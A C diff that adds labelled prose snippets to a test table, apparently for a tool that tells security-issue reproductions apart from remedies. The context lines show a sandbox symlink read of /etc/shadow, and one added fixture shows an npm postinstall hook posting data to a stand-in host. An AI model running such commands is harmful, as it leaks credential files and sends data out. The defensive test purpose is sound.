@@ -336,6 +336,14 @@ static const struct {
 	{ PROSE "$ semgrep --config p/rust crates/\n  crates/msb-fs/src/copy.rs\n"
 	  "$ msb run --name t alpine -- sh -c 'ln -sf /etc/shadow /out/x'\n$ msb cp t:/out/x ./x && head -1 x\nroot:*:19700:0:99999:7:::\n", 1, 1, -1 },
 	{ PROSE "$ semgrepper --target http://127.0.0.1:5555/v1/sandboxes --token none\n{\"error\":null,\"items\":[\"b-7\"]}\n", 1, 1, -1 },
+	/* (#3, 3217, 3264) moving a dependency to its fix (cargo update -p,
+	 * pip install -U, npm audit fix) is the remedy, not a reproduction;
+	 * installing a package plainly can be one (a squatted package) */
+	{ PROSE "Just a heads-up that a\n\n    cargo update -p rustls@0.21.10\n\n(0.21.12 is semver-compatible) would do.\n", -1, 0, -1 },
+	{ PROSE "$ pip-audit\nurllib3 1.26.18 GHSA-34jh-p97f-mpxf 1.26.19\n$ pip install -U urllib3\n"
+	  "ERROR: microsandbox 0.12.6 requires urllib3<1.26.19\n", -1, 0, -1 },
+	{ PROSE "$ npm audit fix --force\nadded 3 packages, changed 1 package\n", -1, 0, -1 },
+	{ PROSE "$ npm install @microsandbox/sdk\n> postinstall: node collect.js\nPOST https://203.0.113.9/c 200\n", -1, 1, -1 },
 	/* (#3) a command of the writer's own on a line of its own under
 	 * their colon sentence is a reproduction; one the docs give, or a
 	 * sentence that only starts with a command word, is not */
